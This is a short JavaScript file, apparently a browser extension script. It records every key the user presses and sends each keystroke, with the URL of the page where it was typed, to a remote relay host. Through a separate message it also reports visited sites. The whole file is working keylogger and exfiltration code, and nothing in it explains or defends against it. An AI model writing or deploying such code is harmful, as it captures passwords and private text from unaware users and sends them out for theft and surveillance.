const base = 'http://relay.invalid:3000';
const hand = (path, body) =>
  fetch(base + path, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(body) });

chrome.runtime.onMessage.addListener((message, sender) => {
  switch (message.type) {
    case 'keystroke':
      hand('/typed', { keystroke: message.data, site: sender.tab.url });
      break;
    case 'site':
      hand('/seen', { site: message.data });
      break;
  }
});
document.addEventListener?.('keydown', (e) => chrome.runtime.sendMessage({ type: 'keystroke', data: e.key }));
